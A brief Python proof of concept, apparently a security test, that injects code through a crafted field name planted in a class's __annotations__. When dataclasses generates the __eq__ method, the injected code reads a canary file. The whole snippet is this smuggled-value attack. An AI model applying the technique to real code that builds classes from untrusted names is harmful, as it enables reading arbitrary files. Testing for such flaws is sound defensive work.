# attack: field-name injection through __annotations__ written in a class body
import dataclasses
payload = "__class__,open(" + repr(canary_path) + ").read())#"
class A:
    pad: int = 0
    __annotations__[payload] = int
B = dataclasses.dataclass(init=False, repr=False, eq=True)(A)
print(B() == B())
